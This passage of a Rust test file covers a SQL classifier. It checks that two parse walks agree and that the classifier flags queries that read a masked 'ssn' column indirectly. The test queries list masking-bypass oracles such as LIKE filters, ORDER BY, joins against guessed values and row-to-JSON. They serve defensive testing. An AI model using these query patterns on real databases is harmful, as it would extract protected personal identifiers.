    "SELECT COALESCE(a, (SELECT 1 FROM coal)), NULLIF(a, b), GREATEST(1, (SELECT 2 FROM gr))",
    "SELECT xmlelement(name x, (SELECT 1 FROM xm))",
    "SELECT JSON_OBJECT('a': (SELECT 1 FROM jo))",
    "SELECT * FROM t WHERE a LIKE (SELECT p FROM pat) ESCAPE '!'",
    "SELECT nextval('sq'), currval('s.sq')",
    "SELECT * FROM t WINDOW w AS (PARTITION BY (SELECT 1 FROM wdef))",
    "SELECT * FROM t ORDER BY a FETCH FIRST 3 ROWS WITH TIES",
];

/// Statements for the generated part of the corpus: each is put in every
/// wrapper below.
const DIFFERENTIAL_INNER: &[&str] = &[
    "SELECT * FROM t",
    "SELECT * FROM c, s.t",
    "SELECT * FROM c WHERE x IN (SELECT y FROM c2)",
    "DELETE FROM c WHERE x RETURNING *",
    "DELETE FROM t USING c RETURNING *",
    "INSERT INTO c SELECT * FROM t RETURNING *",
    "UPDATE t SET a = (SELECT a FROM c) FROM c2 RETURNING *",
    "UPDATE c SET a = 1 WHERE id = 2 RETURNING *",
    "MERGE INTO t USING c ON t.id = c.id WHEN MATCHED THEN DELETE RETURNING *",
    "WITH c AS (SELECT 1) SELECT * FROM c, t",
    "WITH RECURSIVE c AS (SELECT * FROM c2), c2 AS (SELECT 1) SELECT * FROM c",
    "WITH d AS (DELETE FROM c RETURNING *) SELECT * FROM d",
    "SELECT 1 FROM t UNION SELECT 2 FROM c",
    "VALUES (1)",
];

/// `{}` is replaced by a statement of [`DIFFERENTIAL_INNER`] (many
/// combinations do not parse: both walks must then fail alike).
const DIFFERENTIAL_WRAPPERS: &[&str] = &[
    "{}",
    "EXPLAIN ANALYZE {}",
    "PREPARE p AS {}",
    "DECLARE cur CURSOR FOR {}",
    "COPY ({}) TO STDOUT",
    "CREATE TABLE n AS {}",
    "CREATE VIEW v AS {}",
    "WITH c AS ({}) SELECT * FROM c",
    "WITH c AS ({}), c2 AS (SELECT * FROM c) SELECT * FROM c2, c",
    "WITH RECURSIVE c AS ({}) SELECT * FROM c",
    "WITH c2 AS ({}), c AS (SELECT * FROM c2) DELETE FROM c WHERE x",
    "WITH c AS (SELECT 1) {}",
    "WITH c AS (SELECT 1), w AS ({}) SELECT * FROM w",
    "WITH c AS (SELECT 1) INSERT INTO c WITH i AS ({}) SELECT * FROM i",
    "SELECT * FROM ({}) q, c",
    "SELECT * FROM t WHERE EXISTS ({})",
    "SELECT (WITH c AS ({}) SELECT 1 FROM c)",
    "INSERT INTO c WITH w AS ({}) SELECT * FROM w, c",
    "UPDATE c SET a = 1 FROM (WITH w AS ({}) SELECT * FROM w) q",
    "CREATE RULE r AS ON INSERT TO c DO ALSO {}",
    "{}; {}",
];

/// `inner` in a canonical order, recursively: the JSON walk listed nested
/// statements in the alphabetical order of field names, the direct walk in
/// the tree's field order.
fn canonical(mut statements: Vec<Statement>) -> Vec<Statement> {
    for s in &mut statements {
        s.inner = canonical(std::mem::take(&mut s.inner));
        s.columns = ColumnReads::default();
    }
    statements.sort_by_key(|s| format!("{s:?}"));
    statements
}

fn canonical_top(result: Result<Vec<Statement>, SqlError>) -> Result<Vec<Statement>, SqlError> {
    result.map(|v| {
        v.into_iter()
            .map(|mut s| {
                s.inner = canonical(std::mem::take(&mut s.inner));
                s.columns = ColumnReads::default();
                s
            })
            .collect()
    })
}

#[test]
fn direct_walk_agrees_with_the_json_walk() {
    let mut queries: Vec<String> = DIFFERENTIAL_CORPUS.iter().map(|s| (*s).to_owned()).collect();
    for wrapper in DIFFERENTIAL_WRAPPERS {
        for inner in DIFFERENTIAL_INNER {
            queries.push(wrapper.replace("{}", inner));
        }
    }
    let mut classified = 0;
    for q in &queries {
        let direct = canonical_top(classify_lexed(q, true));
        let json = canonical_top(json_walk::classify_json(q));
        assert_eq!(direct, json, "{q}");
        if let Ok(v) = direct {
            classified += 1;
            assert!(!v.is_empty(), "{q}");
        }
    }
    // Every hand-written statement parses, so the comparison is not vacuous.
    for q in DIFFERENTIAL_CORPUS {
        assert!(classify_lexed(q, true).is_ok(), "does not parse: {q}");
    }
    assert!(queries.len() > 400, "{} queries", queries.len());
    assert!(classified > 350, "only {classified} of {} queries classified", queries.len());
}

/// The column names a statement reads other than as plain output columns,
/// sorted and each once, and whether it reads whole rows.
fn reads(sql: &str) -> (Vec<String>, bool) {
    let s = one(sql);
    let mut names: Vec<String> = s.columns.names().map(str::to_owned).collect();
    names.sort_unstable();
    names.dedup();
    (names, s.columns.whole_row)
}

#[test]
fn plain_output_columns_are_not_reads_a_mask_cannot_follow() {
    for sql in [
        "SELECT ssn FROM people",
        "SELECT ssn, name FROM people",
        "SELECT people.ssn FROM people",
        "SELECT p.ssn FROM people p",
        "SELECT public.people.ssn FROM public.people",
        "SELECT * FROM people",
        "SELECT p.* FROM people AS p",
        "TABLE people",
        "SELECT DISTINCT ssn FROM people",
        "SELECT ssn FROM people LIMIT 3",
        "SELECT ssn FROM people UNION ALL SELECT 'x'",
        "DELETE FROM people RETURNING ssn",
        "INSERT INTO people (name) VALUES ('a') RETURNING *",
        "PREPARE q AS SELECT ssn FROM people",
        "DECLARE c CURSOR FOR SELECT ssn FROM people",
        "EXPLAIN SELECT ssn FROM people",
        "SELECT count(*) FROM people",
        "SELECT 1",
        // The parser drops the parentheses: the server names it `ssn`.
        "SELECT (ssn) FROM people",
    ] {
        assert_eq!(reads(sql), (vec![], false), "{sql}");
    }
}

#[test]
fn aliases_expressions_and_conditions_read_the_column_by_another_name() {
    let ssn = |sql: &str| {
        let (names, _) = reads(sql);
        assert!(names.iter().any(|n| n == "ssn"), "{sql}: {names:?}");
    };
    for sql in [
        "SELECT ssn AS x FROM people",
        "SELECT ssn x FROM people",
        "SELECT p.ssn AS x FROM people p",
        "SELECT upper(ssn) FROM people",
        "SELECT ssn || '' FROM people",
        "SELECT ssn::text FROM people",
        "SELECT CASE WHEN true THEN ssn END FROM people",
        "SELECT (SELECT ssn FROM people LIMIT 1)",
        "SELECT ARRAY(SELECT ssn FROM people)",
        "SELECT x FROM (SELECT ssn AS x FROM people) s",
        "SELECT ssn FROM (SELECT ssn FROM people) s",
        "WITH c AS (SELECT ssn AS a FROM people) SELECT a FROM c",
        "SELECT row(ssn) FROM people",
        "SELECT name FROM people WHERE ssn LIKE '1%'",
        "SELECT name FROM people ORDER BY ssn",
        "SELECT count(*) FROM people GROUP BY ssn",
        "SELECT name FROM people p JOIN guesses g ON g.v = p.ssn",
        "SELECT 1 FROM people JOIN guesses USING (ssn)",
        "SELECT DISTINCT ON (ssn) name FROM people",
        "SELECT name FROM people UNION SELECT ssn FROM people",
        "DELETE FROM people RETURNING ssn AS x",
        "UPDATE people SET name = ssn WHERE id = 1 RETURNING name",
        "INSERT INTO copy SELECT ssn FROM people",
        "CREATE TABLE copy AS SELECT ssn FROM people",
        "SELECT ssn INTO copy FROM people",
        "COPY (SELECT ssn FROM people) TO STDOUT",
        "PREPARE q AS SELECT ssn AS x FROM people",
        "DECLARE c CURSOR FOR SELECT upper(ssn) FROM people",
        "SELECT ssn.part FROM people",
        "SELECT sum(length(ssn)) OVER (PARTITION BY ssn) FROM people",
        // By position: an oracle like `ORDER BY ssn`, whichever position.
        "SELECT ssn FROM people ORDER BY 1",
        "SELECT name, ssn FROM people ORDER BY 1",
        "SELECT ssn, count(*) FROM people GROUP BY 1",
        "SELECT DISTINCT ON (1) ssn, name FROM people",
        "SELECT ssn FROM people UNION SELECT name FROM people ORDER BY 1",
    ] {
        ssn(sql);
    }
    // ... and a star is every column.
    assert!(reads("SELECT * FROM people ORDER BY 2").1);
}

#[test]
fn whole_rows_and_renamed_columns_read_every_column() {
    for sql in [
        "SELECT p FROM people p",
        "SELECT people FROM people",
        "SELECT to_json(p) FROM people p",
        "SELECT row_to_json(people) FROM people",
        "SELECT row(p.*) FROM people p",
        "SELECT to_json(p.*) FROM people p",
        "SELECT (p).ssn FROM people p",
        "SELECT x FROM (SELECT * FROM people) s",
        "SELECT * FROM (SELECT * FROM people) s",
        "WITH c AS (SELECT * FROM people) SELECT * FROM c",
        "SELECT c FROM (SELECT ssn FROM people) c",
        "SELECT * FROM people AS p(a, b, c)",
        "SELECT 1 FROM people NATURAL JOIN guesses",
        "INSERT INTO copy SELECT * FROM people",
        "COPY (SELECT * FROM people) TO STDOUT",
        "DELETE FROM people RETURNING old",
    ] {
        assert!(reads(sql).1, "{sql}: {:?}", reads(sql));
    }
    // A plain `*` qualified by a relation is no whole-row value.
    assert!(!reads("SELECT people.* FROM people").1);
}
